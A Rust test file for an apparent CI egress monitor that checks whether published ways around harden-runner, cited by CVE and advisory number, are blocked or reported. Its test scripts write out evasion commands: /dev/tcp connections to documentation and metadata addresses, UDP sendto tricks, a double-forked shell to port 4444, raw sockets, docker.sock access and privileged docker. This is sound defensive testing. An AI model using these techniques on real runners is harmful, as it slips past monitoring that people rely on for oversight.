//! The ways around harden-runner that were published, and what becomes of each here.

use foretaste_behaviour::{Access, Action};

use crate::support::{Watch, details, turn};

const BLOCK: &str = "mode = \"block\"\nallow = [\"files.example\"]\n";

fn stopped(script: &str, to: &str) {
    let report = Watch {
        policy: BLOCK,
        ..Watch::default()
    }
    .run(script);
    let found = report.events.iter().any(|event| {
        matches!(&event.action, Action::Connection { address, access: Access::Denied, .. } if address == to)
    });
    assert!(found, "{to}: {:?}", report.events);
}

/// CVE-2026-25598: datagrams without a connection were not seen.
#[test]
fn sendto_sendmsg_and_sendmmsg_are_stopped() {
    let Some(_turn) = turn() else { return };
    stopped(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.10', 9999))\"",
        "192.0.2.10",
    );
    stopped(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('192.0.2.11', 9999))\"",
        "192.0.2.11",
    );
    stopped(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::7', 9999))\"",
        "2001:db8::7",
    );
    stopped(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::ffff:192.0.2.12', 9999))\"",
        "192.0.2.12",
    );
    stopped(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(b'x', 0x20000000, ('192.0.2.13', 9999))\"",
        "192.0.2.13",
    );
}

/// GHSA-46g3-37rh-v698: names over HTTPS were not held to the list.
#[test]
fn names_over_https_and_tls_are_stopped_and_named() {
    let Some(_turn) = turn() else { return };
    stopped("(echo > /dev/tcp/1.1.1.1/443) 2>/dev/null; true", "1.1.1.1");
    stopped("(echo > /dev/tcp/9.9.9.9/853) 2>/dev/null; true", "9.9.9.9");
    let report = Watch {
        policy: BLOCK,
        ..Watch::default()
    }
    .run("(echo > /dev/tcp/1.1.1.1/443) 2>/dev/null; true");
    assert!(
        details(&report, "egress-denied")
            .iter()
            .any(|d| d.contains("unseen")),
        "{:?}",
        report.findings
    );
}

/// Metadata services, private networks: always open in harden-runner's block mode.
#[test]
fn metadata_and_private_networks_are_not_open_by_themselves() {
    let Some(_turn) = turn() else { return };
    stopped(
        "(exec 3<>/dev/tcp/169.254.169.254/80) 2>/dev/null; true",
        "169.254.169.254",
    );
    stopped(
        "(exec 3<>/dev/tcp/10.1.2.3/22) 2>/dev/null; true",
        "10.1.2.3",
    );
}

/// CVE-2025-32955 and others: more rights end the monitor. Here the attempt is told; root ends every monitor of its own
/// machine, and what was stopped stays stopped (`pins`).
#[test]
fn sudo_and_docker_are_told() {
    let Some(_turn) = turn() else { return };
    let folder = tempfile::tempdir().expect("a folder");
    for name in ["sudo", "docker"] {
        std::os::unix::fs::symlink("/bin/true", folder.path().join(name)).expect("a link");
    }
    let report = Watch::default().run(&format!(
        "PATH={}:$PATH; sudo id; docker run --privileged x; true",
        folder.path().display()
    ));
    let told = details(&report, "privilege");
    assert!(
        told.iter().any(|d| d.starts_with("sudo")) && told.iter().any(|d| d.starts_with("docker")),
        "{:?}",
        report.findings
    );
}

/// Packet and raw sockets pass by hooks for connections.
#[test]
fn raw_sockets_are_refused_and_packet_sockets_are_told() {
    let Some(_turn) = turn() else { return };
    let report = Watch { policy: BLOCK, ..Watch::default() }.run("/usr/bin/python3 - <<'E'\nimport socket\ntry:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n    raise SystemExit(9)\nexcept PermissionError: pass\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)\nE");
    assert_eq!(report.exit_code, Some(0), "a raw socket was given out");
    assert!(
        details(&report, "egress-alert")
            .iter()
            .any(|d| d.contains("packet socket")),
        "{:?}",
        report.findings
    );
}

/// A child that outlives its parent is still the command's.
#[test]
fn a_double_fork_does_not_leave_the_watch() {
    let Some(_turn) = turn() else { return };
    stopped(
        "export F=$(mktemp -u); (setsid bash -c '(sleep 0.3; exec 3<>/dev/tcp/192.0.2.20/4444) 2>/dev/null; touch $F' &); until [ -e $F ]; do sleep 0.1; done; rm $F",
        "192.0.2.20",
    );
}

/// A container engine is reached by its socket, without its command.
#[test]
fn the_socket_of_a_container_engine_is_told() {
    let Some(_turn) = turn() else { return };
    let report = Watch::default().run(
        "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect_ex('/run/docker.sock')\"",
    );
    let told = details(&report, "privilege");
    assert!(
        told.iter().any(|d| d.contains("/run/docker.sock")),
        "{:?}",
        report.findings
    );
}

/// A process whose first thread has ended is still watched.
#[test]
fn threads_that_outlive_the_first_one_are_stopped() {
    let Some(_turn) = turn() else { return };
    stopped(
        "/usr/bin/python3 - <<'E'\nimport ctypes, platform, socket, threading, time\ndef late():\n    time.sleep(0.5)\n    socket.socket(socket.AF_INET).connect_ex(('192.0.2.30', 9))\nthreading.Thread(target=late).start()\nctypes.CDLL(None).syscall(60 if platform.machine() == 'x86_64' else 93, 0)\nE",
        "192.0.2.30",
    );
}
